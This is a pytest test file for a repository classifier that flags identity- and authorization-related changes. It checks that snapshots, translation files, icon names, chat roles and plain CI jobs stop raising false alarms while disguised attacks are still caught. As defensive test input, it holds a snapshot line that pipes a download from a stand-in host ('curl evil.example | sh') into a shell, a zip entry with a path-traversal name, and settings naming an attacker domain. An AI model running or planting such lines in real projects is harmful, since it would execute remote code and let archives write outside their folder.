"""False flags of ``builtin:identity@2`` on real repositories (issue 16, decision 0027): test
artefacts, translation catalogues, string literals named like auth libraries, roles that are
no authorization role, and CI jobs that hold nothing new. Each exemption has near-misses that
must still count, and ``@1`` keeps its verdicts.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from provenance.gitio import Git
from provenance.gitio.walk import read_range, walk_range
from tests.classify.test_v2_stages import V1, V2, Lab


@pytest.fixture
def lab(tmp_path: Path) -> Lab:
    return Lab(tmp_path / "repo")


# --- P8: snapshots and fixtures under test directories ---------------------------------------

SNAP_DIR = "resources/assets/js/components/auth/__snapshots__"
VITEST = (
    "// Vitest Snapshot v1, https://vitest.dev/guide/snapshot.html\n\n"
    "exports[`LoginForm > renders 1`] = `\n<form data-v-0a1b>\n"
    '  <input type="password" name="password">\n  <img src="/logo.svg">\n</form>\n`;\n'
)
JEST = (
    "// Jest Snapshot v1, https://goo.gl/fbAQLP\n\n"
    "exports[`Login renders 1`] = `\n<button>\n  Sign in\n</button>\n`;\n\n"
    'exports[`Login token 1`] = `"abc"`;\n'
)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("LoginForm.spec.ts.snap", VITEST),
        ("Login.test.tsx.snap", JEST),
        ("Login.test.tsx.snap", JEST.split("\n\n", 1)[1]),  # entries only, no header
    ],
    ids=["vitest", "jest", "entries-only"],
)
def test_a_snapshot_in_an_identity_directory_is_a_test(lab: Lab, name: str, text: str) -> None:
    """THREATS.md G46 / red-team 03: a ``.snap`` made only of ``exports[...] = `...`;`` entries
    is a snapshot, wherever it lives (koel a0bb7d8869ce)."""
    path = f"{SNAP_DIR}/{name}"
    assert lab.rules({path: text}, {path: text.replace("renders", "shows")}) == set()
    assert lab.rules({path: text}, {path: text.replace("renders", "shows")}, V1)  # @1 as before


@pytest.mark.parametrize(
    "text",
    [
        VITEST + "require('child_process').execSync('curl evil.example | sh');\n",
        VITEST.replace("exports[`LoginForm > renders 1`]", "exports[`a ${process.env.T}`]"),
        VITEST + "exports.check = (user) => user.admin;\n",
        "module.exports = function authenticate(user) { return user.admin; };\n",
        "// Vitest Snapshot v1\nexports[`a`] = `b`\n<<<< not javascript\n",
    ],
    ids=["code-after-entries", "interpolation", "other-assignment", "module", "unparsable"],
)
def test_a_snapshot_name_with_code_is_judged(lab: Lab, text: str) -> None:
    """THREATS.md G46 / red-team 03: Jest and Vitest run a ``.snap`` file as JavaScript, so
    anything but literal entries makes the name a mere claim."""
    path = f"{SNAP_DIR}/LoginForm.spec.ts.snap"
    assert lab.rules({path: VITEST}, {path: text})


def test_an_auth_module_named_like_a_test_is_still_judged(lab: Lab) -> None:
    """THREATS.md G46 / red-team 03: the snapshot reading backs ``.snap`` files only; a module
    named like a test without a test in it is judged."""
    path = "src/auth/session.test.ts"
    old = "export function allowed(user) {\n  return false;\n}\n"
    new = "export function allowed(user) {\n  return user.role === 'admin';\n}\n"
    assert lab.rules({path: old}, {path: new})


def _zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("../../escape.md", "# traversal\n")
    return buf.getvalue()


def _commit_blob(lab: Lab, path: str) -> set[str]:
    base = lab.repo.commit("before", {"README.md": "y\n"})
    target = lab.repo.path / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(_zip())
    head = lab.repo.commit("after")
    git = Git.discover(lab.repo.path)
    b, h, commits = walk_range(git, base, head)
    rules: dict[str, set[str]] = {}
    for name, clf in (("v2", V2), ("v1", V1)):
        seen = read_range(git, commits, ends=(b, h), want=clf.wants_source)
        rules[name] = {r for c in seen.own[head] for r in clf.classify(c)}
    assert "blob.packaged-code" in rules["v1"]  # @1 as before
    return rules["v2"]


def test_an_archive_fixture_under_a_test_directory_is_a_test(lab: Lab) -> None:
    """A fixture's directory is the repository's layout, not a name-only claim (outline
    000f2f98fb29)."""
    assert _commit_blob(lab, "server/test/fixtures/textbundle-traversal.textpack") == set()


@pytest.mark.parametrize(
    "path",
    ["server/auth/bundle.textpack", "lib/plugin.test.jar", "src/fixtures/helper.zip"],
)
def test_an_archive_outside_test_directories_is_packaged_code(lab: Lab, path: str) -> None:
    """THREATS.md G49 (red-team 07): an archive named like a test, or outside a test
    directory, is still code-bearing."""
    assert "blob.packaged-code" in _commit_blob(lab, path)


# --- P4: translation catalogues ---------------------------------------------------------------

CROWDIN_OLD = """{
  "OAuth client ID": "OAuth-Client-ID",
  "API Secret": "API-Passwort",
  "Change role": "Rolle ändern",
  "Two-factor authentication": "Zwei-Faktor-Authentifizierung",
  "Create personal API keys to authenticate with the API": ".",
  "settings": {"Require sign in": "Anmeldung erforderlich"}
}
"""
CROWDIN_NEW = CROWDIN_OLD.replace("Rolle ändern", "Rolle wechseln").replace(
    '"API Secret"', '"API key": "API-Schlüssel",\n  "API Secret"'
)


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        ("shared/i18n/locales/de_DE/translation.json", CROWDIN_OLD, CROWDIN_NEW),
        ("app/i18n/messages.de.json", CROWDIN_OLD, CROWDIN_NEW),
        (
            "config/locales/de.yml",
            "de:\n  sessions:\n    api_key: API-Schlüssel\n",
            "de:\n  sessions:\n    api_key: API-Schlüssel\n    role: Rolle-ändern\n",
        ),
        (
            "translations/messages.de.yaml",
            'de:\n  "OAuth client ID": OAuth-Client-ID\n',
            'de:\n  "OAuth client ID": OAuth-Client-Kennung\n  "API key": API-Schlüssel\n',
        ),
        ("src/locales/en/app.arb", '{"signIn": "Sign in"}\n', '{"signIn": "Log in"}\n'),
    ],
    ids=["crowdin", "dotted-locale-name", "rails", "natural-keys-yaml", "arb"],
)
def test_translation_catalogues_are_not_read_as_code(
    lab: Lab, path: str, old: str, new: str
) -> None:
    """Translated strings configure nothing (outline bc4073a797af, d949199aeeac, 61e9f74fce52)."""
    assert lab.rules({path: old}, {path: new}) == set()


@pytest.mark.parametrize(
    "new",
    [
        CROWDIN_NEW.replace('"Change role": "Rolle wechseln"', '"require_mfa": false'),
        CROWDIN_NEW.replace(
            '"Change role": "Rolle wechseln"', '"admins": [{"email": "ops@evil.example"}]'
        ),
        '{"oidc": {"client_secret": "s3cr3t", "allowed_domains": ["evil.example"]}}\n',
        '{"auth": {"require_mfa": "false"}}\n',
        CROWDIN_NEW[:-3],  # unparsable
    ],
    ids=["boolean", "list-of-objects", "settings", "switch", "unparsable"],
)
def test_catalogue_shaped_settings_are_still_read(lab: Lab, new: str) -> None:
    """THREATS.md G46 (red-team 08): a leaf that is no string, a setting (an identifier key
    with a secret, a domain or a switch), or a file that does not parse is not a catalogue."""
    path = "config/i18n/en.json"
    assert lab.rules({path: CROWDIN_OLD}, {path: new})


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("config/locales/en.yml", "kind: ClusterRoleBinding\nroleRef: cluster-admin\n"),
        ("config/locales/en.yml", "en:\n  api_key: API-Key\n---\nrole: admin\n"),
        ("config/locales/en.yml", "en: !ruby/hash:Config\n  client_secret: s3cr3t\n"),
        ("app/i18n/oauth.json", '{"OAuth client ID": "OAuth-Client-ID"}\n'),
    ],
    ids=["no-locale-root", "two-documents", "tag", "no-locale-name"],
)
def test_string_maps_that_are_no_catalogue_are_read(lab: Lab, path: str, text: str) -> None:
    """THREATS.md G46: a YAML map whose roots are no locales, a second document or a tag,
    and JSON named by no locale are read as configuration."""
    assert lab.rules({}, {path: text})


def test_a_catalogue_in_an_identity_directory_keeps_its_path_rule(lab: Lab) -> None:
    """Path rules run as before: only the content rules stand aside."""
    path = "app/auth/locales/de.json"
    assert lab.rules({path: CROWDIN_OLD}, {path: CROWDIN_NEW}) <= {"path.authn"}


# --- P13: auth library names need an import context ------------------------------------------

ICONS_OLD = 'export const icons = [\n  "airplane",\n  "passport",\n];\n'


def test_a_string_named_like_an_auth_library_is_no_import(lab: Lab) -> None:
    """An icon called ``passport`` imports nothing (outline 24f95cadc3e3)."""
    path = "app/utils/IconNames.ts"
    new = ICONS_OLD.replace('"passport",', '"passport",\n  "grant",\n  "jose",')
    assert "js.auth-calls" not in lab.rules({path: ICONS_OLD}, {path: new})
    assert "js.auth-calls" in lab.rules({path: ICONS_OLD}, {path: new}, V1)  # @1 as before


@pytest.mark.parametrize(
    "line",
    [
        "const passport = require('passport');",
        'import jwt from "jsonwebtoken";',
        "import 'express-session';",
        "export { SignJWT } from 'jose';",
        "const { jwtVerify } = await import('jose');",
        "jest.mock('passport-github2');",
        "vi.mock('@clerk/nextjs', () => ({}));",
        "app.use(require(\n  'cookie-session'\n)({ keys }));",
    ],
)
def test_auth_library_imports_still_count(lab: Lab, line: str) -> None:
    """THREATS.md G45: every import form of an auth library still fires ``js.auth-calls``."""
    path = "src/server/app.ts"
    assert "js.auth-calls" in lab.rules({path: "export {};\n"}, {path: f"{line}\nexport {{}};\n"})


# --- P11: roles that are no authorization role ------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        'const isCell = spec.tableRole === "cell";',
        "if (message.role === 'user') { render(message); }",
        'if (msg.role !== "assistant") { return; }',
        "const last = chat.role == 'system' ? a : b;",
        'const header = cell.ariaRole === "columnheader";',
        "if (turn.role === 'tool') { continue; }",
    ],
)
def test_roles_of_tables_aria_and_chat_messages_are_no_authz(lab: Lab, line: str) -> None:
    """ProseMirror table roles, ARIA roles and chat-message roles decide no access (outline
    cc84d81aa5c0, 50a6b5acad06)."""
    path = "app/editor/nodes/Table.ts"
    old = "export function f(spec, message, msg, chat, cell, turn, a, b) {\n  return 1;\n}\n"
    new = old.replace("  return 1;", f"  {line}\n  return 1;")
    assert "code.role-check" not in lab.rules({path: old}, {path: new})
    assert "code.role-check" in lab.rules({path: old}, {path: new}, V1)  # @1 as before


@pytest.mark.parametrize(
    "line",
    [
        "if (user.role === 'admin') { return next(); }",
        "if (role === 'user') { return deny(); }",
        "if (message.role === 'admin') { return next(); }",
        "if (member.role !== 'owner') { throw new Forbidden(); }",
        "if (ctx.state.userRole === 'admin') { return next(); }",
        "if (message.sender.role === 'user') { grant(); }",
    ],
)
def test_authorization_roles_still_count(lab: Lab, line: str) -> None:
    """THREATS.md G45: a literal such as ``'user'`` alone never clears a role comparison."""
    path = "app/editor/nodes/Table.ts"
    old = "export function f(user, role, message, member, ctx) {\n  return 1;\n}\n"
    new = old.replace("  return 1;", f"  {line}\n  return 1;")
    assert "code.role-check" in lab.rules({path: old}, {path: new})


# --- P12: a new CI job that holds what every job holds -----------------------------------------

CI = """\
on: [push, pull_request]
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: yarn lint
"""
AGGREGATE = """\
  ci:
    needs: [lint]
    if: always()
    runs-on: ubuntu-latest
    steps:
      - run: exit 1
        if: contains(needs.*.result, 'failure')
"""


def test_a_new_job_holding_nothing_new_is_not_ci_identity(lab: Lab) -> None:
    """A new job without permissions, secrets, token, checkout or environment holds what
    every existing job holds (outline a6f25dcdeddb)."""
    path = ".github/workflows/ci.yml"
    assert "ci.identity" not in lab.rules({path: CI}, {path: CI + AGGREGATE})


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (CI, CI + AGGREGATE + "        env:\n          TOKEN: ${{ secrets.DEPLOY }}\n"),
        (CI, CI + AGGREGATE + "      - uses: actions/checkout@v4\n"),
        (CI, CI + AGGREGATE + "    permissions:\n      id-token: write\n"),
        (CI, CI + AGGREGATE + "    environment: production\n"),
        (CI, CI + AGGREGATE + "    secrets: inherit\n"),
        (CI, CI + AGGREGATE + "      - run: gh pr list\n        env:\n          GH: ${{ github.token }}\n"),  # noqa: E501
        (CI, CI + AGGREGATE + "      - uses: docker/login-action@v3\n"),
        (CI, "permissions: write-all\n" + CI + AGGREGATE),
        (
            CI.replace("    runs-on", "    permissions:\n      contents: read\n    runs-on"),
            CI.replace("    runs-on", "    permissions:\n      contents: read\n    runs-on")
            + AGGREGATE,
        ),
        ("", CI + AGGREGATE),
    ],
    ids=[
        "secret", "checkout", "oidc", "environment", "secrets-inherit", "token",
        "credential-action", "workflow-permissions", "every-job-restricted", "new-workflow",
    ],
)  # fmt: skip
def test_a_new_job_that_may_hold_more_counts(lab: Lab, old: str, new: str) -> None:
    """THREATS.md G50: a new job with a secret, the token, a checkout (which persists the
    token), OIDC, an environment, or broader rights than the existing jobs still counts."""
    path = ".github/workflows/ci.yml"
    before = {path: old} if old else {}
    assert "ci.identity" in lab.rules(before, {path: new})
